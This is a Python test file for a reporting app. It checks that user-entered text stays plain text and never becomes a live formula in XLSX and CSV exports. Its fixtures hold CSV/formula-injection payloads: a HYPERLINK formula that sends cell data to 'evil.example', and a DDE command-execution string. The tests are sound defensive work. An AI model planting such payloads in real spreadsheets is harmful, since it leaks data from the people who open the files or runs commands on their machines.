"""Text typed by people never becomes a formula: in the XLSX pack and in every CSV download."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app import create_app
from metrics.cells import csv_text, is_formula_text, safe_csv
from metrics.registry.loader import load_registry
from reports.pack import build_pack
from reports.samples import SAMPLE_AS_AT
from reports.scope import resolve_scope
from reports.xlsx import render_xlsx
from tests.access.conftest import client_as, dash_post
from tests.conftest import CONFIG
from tests.reports.conftest import copy_sample
from warehouse.engine import duckdb_url, get_engine
from warehouse.tables import flags, observations

ACTION = '=HYPERLINK("http://evil.example/?x="&B2,"Details")'
OWNER = "=cmd|' /C calc'!A0"
HOSTILE = [ACTION, OWNER, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_formula_like_text_is_recognised_and_numbers_are_left_alone() -> None:
    for text in HOSTILE:
        assert is_formula_text(text) and csv_text(text) == "'" + text
    for plain in ("-3.5", "+2%", "-1,234.5", "Jo Bloggs", "", "[c]", -3.5, 7, None):
        assert not is_formula_text(plain) and csv_text(plain) == plain
    text = safe_csv(pd.DataFrame({"value": [-3.5, 2.0], "note": [OWNER, "fine"]}))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["value", "note"], ["-3.5", "'" + OWNER], ["2.0", "fine"]]


@pytest.fixture(scope="module")
def hostile_flags(
    tmp_path_factory: pytest.TempPathFactory, sample_file: Path
) -> Iterator[sa.Engine]:
    """A copy of the sample warehouse with every flag's action and owner set to a formula."""
    engine = get_engine(copy_sample(sample_file, tmp_path_factory.mktemp("formula")))
    with engine.begin() as conn:
        conn.execute(flags.update().values(action=ACTION, owner=OWNER))
    yield engine
    engine.dispose()


def test_xlsx_pack_stores_formula_like_text_as_text(hostile_flags: sa.Engine) -> None:
    registry = load_registry(CONFIG)
    scope = resolve_scope(registry, "portfolio", "finance")
    pack = build_pack(registry, hostile_flags, scope, SAMPLE_AS_AT)
    assert not pack.data.flags.empty
    book = load_workbook(io.BytesIO(render_xlsx(pack)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    sheet = book["Flags"]
    headers = [c.value for c in sheet[1]]
    owners = [row[headers.index("Owner")] for row in sheet.iter_rows(min_row=2)]
    # Only flags with an action planned at the as-at date show one
    actions = [
        row[headers.index("Action")]
        for row in sheet.iter_rows(min_row=2)
        if row[headers.index("Action")].value
    ]
    assert owners and actions
    assert {c.value for c in owners} == {OWNER} and {c.value for c in actions} == {ACTION}
    assert all(c.data_type == "s" and c.quotePrefix for c in owners + actions)
    data = book["Data"]
    value_column = [c.value for c in data[1]].index("Value")
    numbers = [row[value_column] for row in data.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and not c.quotePrefix for c in numbers if c.value is not None)


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The app with a definition and an owner that are formulas, and a negative figure."""
    folder: Path = tmp_path_factory.mktemp("formula-app")
    config = folder / "config"
    import shutil

    shutil.copytree(CONFIG, config)
    corporate = config / "metrics" / "corporate.yaml"
    text = corporate.read_text(encoding="utf-8")
    original = (
        "description: Average working days lost to sickness per full-time equivalent "
        "employee, rolling 12 months (excluding schools).\n"
    )
    assert original in text
    text = text.replace(original, "description: '" + ACTION.replace("'", "''") + "'\n", 1)
    text = text.replace("owner: Director of Corporate Services (HR)", 'owner: "' + OWNER + '"', 1)
    corporate.write_text(text, encoding="utf-8")
    url = duckdb_url(folder / "warehouse.duckdb")
    app = create_app(config, url)
    app.server.config["TESTING"] = True
    from access.users import add_user
    from tests.access.conftest import PASSWORD

    engine = get_engine(url)
    add_user(engine, "jo", PASSWORD, "officer", actor="test")
    registry = load_registry(config)
    county = registry.plan.county.code
    with engine.begin() as conn:
        for month, value in enumerate([-3.5, 2.25, -1.0], start=1):
            conn.execute(
                observations.insert().values(
                    metric_id="staff-sickness-days",
                    area_code=county,
                    period_start=date(2024, month, 1),
                    period_end=date(2024, month, 28),
                    value=value,
                    loaded_at=datetime(2024, 6, 1),
                )
            )
    return app


def _download(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    data = json.loads(response.get_data(as_text=True))["response"]
    sent = next(iter(data.values()))
    sent = sent.get("data", sent)
    content = sent["content"]
    text = base64.b64decode(content).decode("utf-8") if sent.get("base64") else content
    return list(csv.reader(io.StringIO(text)))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not is_formula_text(value), value


def test_catalogue_csv_neutralises_formula_like_text(hostile_app: Any) -> None:
    response = dash_post(
        client_as(hostile_app, "officer"),
        [("catalogue-download", "data")],
        [("catalogue-download-button", "n_clicks", 1)],
        [("catalogue-search", "value", "sickness")],
    )
    rows = _download(response)
    header, body = rows[0], rows[1:]
    row = dict(zip(header, body[0], strict=True))
    assert row["Definition"] == "'" + ACTION and row["Owner"] == "'" + OWNER
    _no_live_formula(rows)


def test_metric_csv_keeps_negative_numbers_and_neutralises_text(hostile_app: Any) -> None:
    registry = hostile_app.server.config["PMF_RUNTIME"].registry
    response = dash_post(
        client_as(hostile_app, "officer"),
        [("metric-download", "data")],
        [("metric-download-button", "n_clicks", 1)],
        [
            ("metric-id", "data", "staff-sickness-days"),
            ("metric-area", "value", registry.plan.county.code),
        ],
    )
    rows = _download(response)
    values = [dict(zip(rows[0], r, strict=True))["Value"] for r in rows[1:]]
    # Rounded to the measure's two decimals, and still numbers (no apostrophe)
    assert values == ["-3.50", "2.25", "-1.00"]
    _no_live_formula(rows)
